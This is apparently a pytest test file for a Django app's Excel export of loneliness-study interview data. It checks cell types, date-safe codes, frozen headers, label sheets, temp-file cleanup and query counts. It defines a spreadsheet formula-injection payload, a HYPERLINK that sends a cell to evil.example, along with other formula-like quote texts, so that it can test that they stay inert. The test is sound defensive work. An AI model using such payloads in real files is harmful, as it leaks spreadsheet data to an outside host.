"""The .xlsx workbooks of exchange.md: the CSV file's rows, every cell text or a number and
never a formula, codes never dates, a frozen header and a sheet of labels."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl.worksheet import _writer as openpyxl_writer

from interviews.models import Evaluation
from interviews.schedules import schedule_of
from tests.analysis_data import build, interview
from tests.factories import InterviewerFactory, QuoteFactory
from tests.test_exports import many_interviews
from themes import exports_xlsx
from themes.export_filters import ExportFilters
from themes.exports import export_stream
from themes.exports_xlsx import WorkbookError, export_workbook
from themes.models import ExportRecord

pytestmark = pytest.mark.django_db

KINDS = ["interviews", "quotes", "counts", "theme_counts"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NUMBERS = {"quote_id", "ucla3_score", "n", "base", "percent", "quotes", "participants"}


def workbook_bytes(kind: str, filters: ExportFilters | None = None) -> bytes:
    target, _ = export_workbook(
        kind=kind,
        filters=filters or ExportFilters(),
        user=None,
        channel=ExportRecord.Channel.COMMAND,
    )
    with target:
        return target.read()


def load(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def unescape(text: str) -> str:
    """What Excel shows for a cell's stored text (OOXML's _xHHHH_ escapes)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), text)


def as_csv_cell(column: str, value) -> str:
    if value is None:
        return ""
    if column == "percent":
        return f"{value:.1f}"  # shown so by the cell's number format
    return unescape(value) if isinstance(value, str) else str(value)


def csv_rows(kind: str) -> list[list[str]]:
    data = b"".join(
        export_stream(kind=kind, filters=ExportFilters(), excel=False, user=None, channel="command")
    )
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.fixture
def data(analyst):
    made = build(analyst)
    one = made["sessions"][0]
    for text in (FORMULA, "+1 rang me", "-2 degrees outside", "@SUM(A1:A9)"):
        QuoteFactory(session=one, item="what_else", text=text)
    return made


@pytest.mark.parametrize("kind", KINDS)
def test_the_first_sheet_holds_the_rows_and_columns_of_the_csv_file(data, kind):
    sheet = load(workbook_bytes(kind)).worksheets[0]
    assert sheet.title == kind
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[0])
    values = [[as_csv_cell(c, v) for c, v in zip(header, row, strict=True)] for row in rows[1:]]
    assert [header, *values] == csv_rows(kind)


@pytest.mark.parametrize("kind", KINDS)
def test_every_cell_is_text_or_a_number_and_never_a_formula(data, kind):
    raw = workbook_bytes(kind)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 2
        for name in sheets:
            assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    data_sheet = load(raw).worksheets[0]
    header = [c.value for c in data_sheet[1]]
    for row in data_sheet.iter_rows(min_row=2):
        for column, cell in zip(header, row, strict=True):
            if cell.value is None:
                continue
            assert cell.data_type == ("n" if column in NUMBERS else "s"), (column, cell.value)


def test_a_quote_that_looks_like_a_formula_stays_the_participants_words(data):
    sheet = load(workbook_bytes("quotes")).worksheets[0]
    texts = [row[4] for row in sheet.iter_rows(min_row=2, values_only=True)]
    for words in (FORMULA, "+1 rang me", "-2 degrees outside", "@SUM(A1:A9)"):
        assert words in texts
    interviews = load(workbook_bytes("interviews")).worksheets[0]
    assert FORMULA in interviews.cell(row=2, column=21).value.split("\n")


def test_codes_never_become_dates(analyst):
    pair = (InterviewerFactory(), InterviewerFactory())
    for i, (people, age) in enumerate([("1-2", "18-24"), ("3-5", "45-54"), ("6-10", "65-74")]):
        interview(f"D-{i}", pair=pair, answers={}, people_per_week=people, age_band=age)
    sheet = load(workbook_bytes("interviews")).worksheets[0]
    header = [c.value for c in sheet[1]]
    people = [r[header.index("people_per_week")] for r in sheet.iter_rows(min_row=2)]
    ages = [r[header.index("age_band")] for r in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in people] == [("1-2", "s"), ("3-5", "s"), ("6-10", "s")]
    assert [c.value for c in ages] == ["18-24", "45-54", "65-74"]
    counts = load(workbook_bytes("counts")).worksheets[0]
    codes = [r[2] for r in counts.iter_rows(min_row=2, values_only=True) if r[1] == "age_band"]
    assert codes == ["18-24", "25-34", "35-44", "45-54", "55-64", "65-74", "75+"]


def test_the_header_rows_are_frozen(data):
    for kind in KINDS:
        book = load(workbook_bytes(kind))
        assert [sheet.freeze_panes for sheet in book.worksheets] == ["A2", "A2"]


def test_numbers_are_numbers(data):
    counts = load(workbook_bytes("counts")).worksheets[0]
    row = next(r for r in counts.iter_rows(min_row=2) if r[1].value == "people_per_week")
    n, base, percent = row[4], row[5], row[6]
    assert (n.value, base.value, percent.value) == (0, 2, 0.0)
    assert percent.number_format == "0.0"


def test_the_labels_sheet_labels_every_code_used(data):
    book = load(workbook_bytes("interviews"))
    labels = [list(r) for r in book["labels"].iter_rows(values_only=True)]
    assert labels[0] == ["variable", "code", "label"]
    assert ["site", "pall_mall", "Pall Mall CMHT"] in labels
    assert ["people_per_week", "1-2", "1-2"] in labels
    assert ["ethnicity", "A", "White: British"] in labels
    assert ["sees", "family", "Family"] in labels
    assert ["companionship", "often", "Often"] in labels
    assert ["status", "verified", "Verified"] in labels
    assert ["consent_method", "signed", "Signed paper form"] in labels
    # Only codes the file uses: nobody here lives with a partner.
    assert not [r for r in labels if r[:2] == ["living_arrangement", "partner"]]
    assert all(label for _, _, label in labels)

    themes = load(workbook_bytes("theme_counts"))["labels"]
    rows = [list(r) for r in themes.iter_rows(values_only=True)]
    assert ["subtheme", "safe_spaces", "Safe spaces"] in rows
    assert ["theme", "settings", "Settings"] in rows
    assert ["by", "gender", "Gender"] in rows
    assert ["gender", "woman", "Woman"] in rows
    what_helped = "What, if anything, has helped you to prevent or reduce feelings of loneliness?"
    assert ["item", "what_helped", what_helped] in rows
    quotes = [list(r) for r in load(workbook_bytes("quotes"))["labels"].iter_rows(values_only=True)]
    assert ("subtheme", "other_networks") in {(r[0], r[1]) for r in quotes if r[2]}
    assert ["answer", "often", "Often"] in quotes
    counts = [list(r) for r in load(workbook_bytes("counts"))["labels"].iter_rows(values_only=True)]
    assert ["ucla3", "missing", "Missing (an item not answered)"] in counts
    assert ["section", "demographics", "Questions about the participant"] in counts
    assert ["variable", "ucla3", "UCLA-3 loneliness score (3 to 9, higher is lonelier)"] in counts
    assert ["ucla3", "9", "9"] in counts


def test_words_xml_cannot_hold_come_back_as_they_were(analyst):
    pair = (InterviewerFactory(), InterviewerFactory())
    session = interview("CTRL-1", pair=pair, answers={})
    words = ["Tab\tand vertical\x0btab", "Looks like _x0041_ an escape", "Bell\x07"]
    for text in words:
        QuoteFactory(session=session, item="what_helped", text=text)
    sheet = load(workbook_bytes("quotes")).worksheets[0]
    assert [unescape(r[4]) for r in sheet.iter_rows(min_row=2, values_only=True)] == words


def test_a_cell_too_long_for_excel_is_refused_with_a_reason_and_nothing_left_behind(analyst):
    pair = (InterviewerFactory(), InterviewerFactory())
    session = interview("LONG-1", pair=pair, answers={})
    QuoteFactory(session=session, item="what_helped", text="word " * 7000)
    before = list(openpyxl_writer.ALL_TEMP_FILES)
    with pytest.raises(WorkbookError, match="more than the 32,767 Excel keeps in a cell"):
        workbook_bytes("quotes")
    assert before == openpyxl_writer.ALL_TEMP_FILES
    assert not ExportRecord.objects.exists()


def test_a_workbook_is_recorded_with_its_format(data):
    workbook_bytes("quotes", ExportFilters.parse(include_unverified=False, where=["carer=no"]))
    record = ExportRecord.objects.get()
    assert (record.file, record.format, record.channel, record.rows) == (
        "quotes.xlsx", "xlsx", "command", 7,
    )  # fmt: skip
    assert record.filters == {
        "evaluation": "loneliness-2018",
        "include_unverified": False,
        "where": ["carer=no"],
    }


def test_nothing_is_left_in_the_temporary_folder(data, tmp_path, monkeypatch):
    """openpyxl writes each sheet to a named temporary file first: made, then removed."""
    monkeypatch.setattr(exports_xlsx.tempfile, "tempdir", str(tmp_path))
    made: list[str] = []
    create = openpyxl_writer.create_temporary_file

    def spy(suffix=""):
        made.append(create(suffix))
        return made[-1]

    monkeypatch.setattr(openpyxl_writer, "create_temporary_file", spy)
    target, _ = export_workbook(
        kind="counts", filters=ExportFilters(), user=None, channel=ExportRecord.Channel.COMMAND
    )
    target.close()
    assert len(made) == 2 and all(name.startswith(str(tmp_path)) for name in made)
    assert list(tmp_path.iterdir()) == []
    QuoteFactory(session=data["sessions"][0], item="what_else", text="word " * 7000)
    with pytest.raises(WorkbookError):
        workbook_bytes("quotes")
    assert list(tmp_path.iterdir()) == []


def queries_for(kind: str) -> int:
    # The evaluation chosen and its schedule read before, as the page and the command have it.
    filters = ExportFilters(evaluation=Evaluation.objects.current())
    schedule_of(filters.evaluation)
    with CaptureQueriesContext(connection) as ctx:
        workbook_bytes(kind, filters)
    return len(ctx.captured_queries)


# Each workbook: the label book (sites, themes, sub-themes), then the queries of the export's
# rows on the Python path (see tests/test_exports.py: interviews 4, quotes 2, counts 4,
# theme_counts 11 or, on PostgreSQL, 9), then the record's insert once the workbook is whole.
EXPECTED_QUERIES = {"interviews": 8, "quotes": 6, "counts": 8, "theme_counts": 15}
if connection.vendor == "postgresql":
    EXPECTED_QUERIES.update(theme_counts=13)


@pytest.mark.parametrize("kind", KINDS)
def test_workbook_query_count_is_pinned_and_independent_of_rows(analyst, kind):
    many_interviews(1, analyst, "ONE")
    one = queries_for(kind)
    many_interviews(19, analyst, "MORE")
    assert load(workbook_bytes(kind)).worksheets[0].max_row >= 21
    assert queries_for(kind) == one == EXPECTED_QUERIES[kind]
